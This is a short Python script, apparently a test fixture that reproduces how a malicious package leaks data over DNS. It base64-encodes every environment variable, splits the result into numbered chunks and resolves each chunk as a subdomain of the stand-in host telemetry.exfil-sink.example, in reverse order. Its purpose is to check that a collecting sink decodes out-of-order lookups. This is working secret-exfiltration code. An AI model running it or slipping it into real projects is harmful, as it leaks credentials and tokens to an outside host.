# DNS exfiltration in numbered chunks, looked up out of order: the
# environment (its fake secrets), urlsafe-base64 with its case, cut into
# 48-character chunks, each asked as <n>.<chunk>.<domain>, the last chunk
# first, as lookups made at once by a process or thread each arrive
# (glean-indexing-api-client-1.0.0 starts a `dig +short` per chunk).
# Before, the sink lowercased the names and the chunks were joined in
# arrival order: nothing decoded.
import base64, os, socket

data = "\n".join(f"{k}={v}" for k, v in os.environ.items())
enc = base64.urlsafe_b64encode(data.encode()).decode()
chunks = [enc[i:i + 48] for i in range(0, len(enc), 48)]
for n in reversed(range(len(chunks))):
    try:
        socket.gethostbyname(f"{n}.{chunks[n]}.telemetry.exfil-sink.example")
    except OSError:
        pass
print(len(chunks), "chunks")
